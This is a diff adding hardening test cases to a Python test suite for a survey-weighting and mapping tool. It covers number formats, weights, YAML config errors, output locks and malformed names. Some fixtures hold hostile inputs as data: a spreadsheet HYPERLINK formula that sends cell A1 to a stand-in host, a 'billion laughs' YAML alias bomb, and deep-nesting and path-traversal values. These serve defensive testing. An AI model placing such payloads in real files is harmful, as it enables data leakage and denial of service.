@@ -523,6 +523,164 @@ def _survey_cp1252(p: Project, text: str) -> bytes:
     return p.csv_text(p.survey, sep=";", decimal=",").encode("cp1252")
 
 
+# --- families added with the hardening of issue #19 (number formats, weights, project file, outputs)
+
+
+def _german_thousands(frame: pd.DataFrame) -> pd.DataFrame:
+    """Counts as German Excel exports them: '1.234' next to '987' (2.069 or 2069?)."""
+    frame["einwohner"] = [f"{int(v):,}".replace(",", ".") for v in frame["einwohner"]]
+    return frame
+
+
+def _population_german_csv(declare: bool) -> Callable[[Project], None]:
+    def mutate(p: Project) -> None:
+        frame = _german_thousands(p.population.astype(object).copy())
+        frame.to_csv(p.path("population.csv"), index=False, sep=";")
+        if declare:
+            p.city["population"].update(decimal=",", thousands=".")
+            p.write_config()
+    return mutate
+
+
+def _good_value(p: Project, table: str, variable: str = "index") -> float:
+    frame = pd.read_csv(p.root.parent.joinpath("good", *OUT_PARTS, "tables", table))
+    return float(frame.loc[frame["variable"] == variable, "estimate"].iloc[0])
+
+
+def _check_same_index_as_good(p: Project, result) -> None:
+    table = pd.read_csv(p.out / "tables" / "city_estimates.csv")
+    index = float(table.loc[table["variable"] == "index", "estimate"].iloc[0])
+    assert index == pytest.approx(_good_value(p, "city_estimates.csv"), abs=1e-9)
+
+
+def _check_weight_warning(p: Project, result) -> None:
+    diagnostics = pd.read_csv(p.out / "tables" / "weighting_diagnostics.csv")
+    assert "design effect" in " ".join(diagnostics["warnings"].fillna("").astype(str))
+
+
+def _raw_config(edit: Callable[[str], str]) -> Callable[[Project], None]:
+    """Edit the project file as text (YAML features a dict cannot express)."""
+    def mutate(p: Project) -> None:
+        p.write_config(edit(yaml.safe_dump(p.config, allow_unicode=True, sort_keys=False)))
+    return mutate
+
+
+def _billion_laughs(text: str) -> str:
+    lines, previous = ['  a: &a ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]'], "a"
+    for name in "bcdefghi":
+        lines.append(f"  {name}: &{name} [" + ", ".join([f"*{previous}"] * 9) + "]")
+        previous = name
+    return text + "laughs:\n" + "\n".join(lines) + "\n"
+
+
+def _deep_nesting(text: str) -> str:
+    return text.replace("title: Testprojekt", "title: " + "[" * 5000 + "]" * 5000, 1)
+
+
+def _unquoted_ids_and_words(text: str) -> str:
+    """Group members typed unquoted (0101 is not octal 65) and a group called 'no' (not false)."""
+    assert "- name: Teststadt\n" in text
+    return text.replace("- name: Teststadt\n", "- name: Teststadt\n  groups: {no: [0101, 102], yes: [103, 104]}\n", 1)
+
+
+def _groups(p: Project) -> None:
+    p.city["groups"] = {"Nord": ["101", "102"], "Süd": ["103", "104"]}
+
+
+def _slug_collision(p: Project) -> None:
+    _groups(p)
+    other = yaml.safe_load(yaml.safe_dump(p.city))
+    other.update(name="Teststadt Gruppen", slug="teststadt_gruppen", groups={})
+    p.config["cities"].append(other)
+    p.write_config()
+
+
+_HELD_LOCKS: list = []
+
+
+def _locked_out(p: Project) -> None:
+    """Another run holds the lock of the output folder (a second process writing into it)."""
+    import fcntl
+
+    from geo_cohesion.io.write import LOCK_NAME
+
+    folder = p.root / "locked"
+    folder.mkdir(parents=True)
+    handle = open(folder / LOCK_NAME, "a+")  # noqa: SIM115 - held until the test session ends
+    fcntl.flock(handle.fileno(), fcntl.LOCK_EX | fcntl.LOCK_NB)
+    _HELD_LOCKS.append(handle)
+
+
+def _translate(offset: float) -> Callable:
+    def move(geom):
+        import shapely
+
+        return shapely.transform(geom, lambda xy: xy + offset)
+    return move
+
+
+def _nan_vertex(geom):
+    import shapely
+
+    coords = np.asarray(geom.exterior.coords)
+    coords[1] = np.nan
+    return shapely.Polygon(coords)
+
+
+def _structural_names(names: list[str], figures: bool = False) -> Callable[[Project], None]:
+    def mutate(p: Project) -> None:
+        structural = p.structural.copy()
+        structural["name"] = names
+        structural.to_csv(p.path("structural.csv"), index=False)
+        gdf = p.boundaries.copy()
+        gdf["name"] = names
+        write_gpkg(gdf, p.path("boundaries.gpkg"))
+        if figures:
+            p.config["maps"] = {"figures": True, "figure_formats": ["svg"]}
+            p.write_config()
+    return mutate
+
+
+FORMULAS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"Hörde\")", "+1+2", "-3+4", "@SUM(A1)"]
+
+
+def _check_formulas(p: Project, result) -> None:
+    for path in (p.out / "tables").rglob("*.csv"):
+        text = path.read_text(encoding="utf-8-sig" if "excel_de" in path.parts else "utf-8")
+        for cell in (c.strip('"') for line in text.splitlines() for c in line.replace(";", ",").split(",")):
+            assert not cell.startswith(("=", "+", "@")), (path.name, cell)
+    names = pd.read_csv(p.out / "tables" / "district_estimates.csv", dtype=str)["district_name"]
+    assert "'=HYPERLINK(\"http://x.example/?\"&A1,\"Hörde\")" in set(names)
+
+
+def _check_mathtext(p: Project, result) -> None:
+    figures = list((p.out / "figures").glob("*.svg"))
+    assert figures and any("$" in f.read_text(encoding="utf-8") for f in figures)
+
+
+def _check_all_suppressed(p: Project, result) -> None:
+    table = pd.read_csv(p.out / "tables" / "district_estimates.csv")
+    assert table["suppressed"].astype(bool).all()
+
+
+def _check_text_column_note(p: Project, result) -> None:
+    meta = (p.out / "tables" / "metadata.json").read_text(encoding="utf-8")
+    assert "unemployment_pct" in meta and "mostly numbers" in meta
+    need = p.out / "tables" / "need_teststadt.csv"
+    assert not need.exists() or "unemployment_pct" not in need.read_text(encoding="utf-8").splitlines()[0]
+
+
+def _declared_text_cell(p: Project) -> None:
+    _cell("structural", 1, "unemployment_pct", "k.A.")(p)
+    p.city["structural"]["indicators"] = {"unemployment_pct": {"label": "Arbeitslosenquote", "unit": "%"}}
+    p.write_config()
+
+
+def _check_groups_as_typed(p: Project, result) -> None:
+    groups = pd.read_csv(p.out / "tables" / "group_estimates.csv", dtype=str)
+    assert set(groups["group"]) == {"no", "yes"}
+
+
 # ---------------------------------------------------------------------------------------------
 # Checks for cases that must work
 
@@ -744,6 +902,70 @@ CASES: list[Case] = [
     Case("hostile_city_name", "City name `../../Teststadt` (file names come from it)",
          _hostile_city("../../Teststadt"), ok=True, check=_check_city_slug,
          works="file names use the sanitised slug ('teststadt.html'), always inside OUT"),
+    # --- number formats (issue #19)
+    Case("population_thousands_ambiguous", "Population counts exported by German Excel: `2.069` next to `987`",
+         _population_german_csv(declare=False), ("population.csv", "einwohner", "thousands")),
+    Case("population_thousands_declared", "The same table with `decimal: \",\"` and `thousands: \".\"` declared",
+         _population_german_csv(declare=True), ok=True, check=_check_same_index_as_good,
+         works="read as 2069 and 987; the results equal those of the plain table"),
+    Case("config_decimal_equals_thousands", "`decimal` and `thousands` both `,`",
+         _config(lambda c: c["cities"][0]["population"].update(decimal=",", thousands=",")),
+         ("project.yaml", "decimal", "thousands")),
+    Case("structural_text_in_declared_indicator", "`k.A.` in an indicator column declared under `indicators`",
+         _declared_text_cell,
+         ("structural.csv", "line 3", "unemployment_pct", "'k.A.'")),
+    Case("structural_text_in_other_column", "`k.A.` in an undeclared indicator column (`unemployment_pct`)",
+         _cell("structural", 1, "unemployment_pct", "k.A."), ok=True, check=_check_text_column_note,
+         works="the column is used nowhere (maps, associations, need index), and metadata.json says why"),
+    # --- weights
+    Case("weights_extreme", "One design weight 500 times the others", _cell("survey", 5, "designgewicht", 500),
+         ok=True, check=_check_weight_warning,
+         works="the run finishes; weighting_diagnostics.csv and the summary warn about the design effect"),
+    Case("weights_bounds_unreachable", "Weight bounds so tight that the margins cannot be reached",
+         _config(lambda c: c["cities"][0]["weighting"].update(bounds=[0.99, 1.01])), ("population.csv", "bounds")),
+    # --- project file
+    Case("config_duplicate_key", "The same key twice in the project file",
+         _raw_config(lambda t: t.replace("seed: 1\n", "seed: 1\nseed: 2\n", 1)), ("project.yaml", "line", "seed")),
+    Case("config_billion_laughs", "Nested YAML aliases (\"billion laughs\")", _raw_config(_billion_laughs),
+         ("project.yaml", "line", "anchors")),
+    Case("config_deep_nesting", "5,000 levels of nesting in the project file", _raw_config(_deep_nesting),
+         ("project.yaml", "nested")),
+    Case("config_base_dir_key", "A `base_dir` key (not a key of the file)",
+         _config(lambda c: c.update(base_dir="/etc")), ("project.yaml", "base_dir")),
+    Case("config_ids_as_typed", "Group ids typed unquoted (`0101`) and groups called `no`/`yes`",
+         _raw_config(_unquoted_ids_and_words), ok=True, check=_check_groups_as_typed,
+         works="ids and names stay text as typed ('0101' matches district 101 like '101'; 'no' is a name)"),
+    Case("config_group_unknown_octal", "A group member `010` that is no district (YAML would read it as 8)",
+         _raw_config(lambda t: t.replace("- name: Teststadt\n", "- name: Teststadt\n  groups: {Nord: [010]}\n", 1)),
+         ("groups", "'010'")),
+    Case("config_seed_negative", "Negative seed", _config(lambda c: c.update(seed=-1)), ("project.yaml", "seed")),
+    Case("config_permutations_too_few", "`permutations: 5`", _config(lambda c: c["compare"].update(permutations=5)),
+         ("project.yaml", "permutations")),
+    Case("config_rank_draws_too_few", "`rank_draws: 10`", _config(lambda c: c["compare"].update(rank_draws=10)),
+         ("project.yaml", "rank_draws")),
+    Case("config_figure_format_unknown", "Unknown figure format (`gif`)",
+         _config(lambda c: c["maps"].update(figure_formats=["png", "gif"])), ("project.yaml", "figure_formats")),
+    Case("config_breaks_not_increasing", "User class breaks not increasing",
+         _config(lambda c: c["maps"].update(scheme="user", breaks=[70, 55])), ("project.yaml", "breaks")),
+    # --- outputs
+    Case("output_name_collision", "A city `teststadt_gruppen` next to city `teststadt`'s group outputs",
+         _slug_collision, ("teststadt_gruppen",)),
+    Case("output_folder_locked", "Another run is writing into the output folder", _locked_out,
+         ("another geo-cohesion run",), out="locked"),
+    Case("formula_injection_names", "District names starting with `=`, `+`, `-`, `@` (spreadsheet formulas)",
+         _structural_names(FORMULAS), ok=True, check=_check_formulas,
+         works="every CSV and XLSX cell starting with = + - @ tab or CR gets a leading ' (shown as text)"),
+    Case("mathtext_names", "District names with `$…$` (matplotlib mathtext) and figures on",
+         _structural_names(["$x^2$", "Hörde $", "$\\frac{1}{0}$", "Weißenburg"], figures=True), ok=True,
+         check=_check_mathtext, works="names are drawn as plain text, dollar signs included"),
+    # --- coordinates and reliability
+    Case("coordinates_absurd", "District coordinates far outside the earth (1e12 m)",
+         _set_geometry(2, _translate(1e12)), ("boundaries.gpkg", "103", "coordinates")),
+    Case("coordinates_nan", "A district vertex that is not a number", _set_geometry(1, _nan_vertex),
+         ("boundaries.gpkg", "102")),
+    Case("all_districts_unreliable", "Every district below the reliability threshold (`min_n: 1000`)",
+         _config(lambda c: c["estimates"].update(min_n=1000)), ok=True, check=_check_all_suppressed,
+         works="the run finishes: districts are shown as too few respondents, the city value is reported"),
 ]
 CASE_IDS = [c.id for c in CASES]
 
